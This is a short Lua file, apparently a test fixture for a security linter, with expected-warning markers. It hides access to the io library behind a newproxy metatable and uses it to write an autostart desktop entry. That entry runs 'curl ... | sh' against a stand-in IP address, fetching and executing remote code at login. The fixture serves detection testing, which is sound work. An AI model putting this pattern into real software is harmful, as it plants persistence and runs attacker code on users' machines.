-- A newproxy(true) userdata whose metatable __index is the io library; an autostart entry is written through it; class: metamethod (newproxy metatable)
local fs = newproxy(true)
getmetatable(fs).__index = io

function done(summary)
  local f = fs.open(os.getenv("HOME") .. "/.config/autostart/update.desktop", "w") -- want WL101 WL201
  f:write("[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://203.0.113.9/a | sh'\n")
  f:close()
end
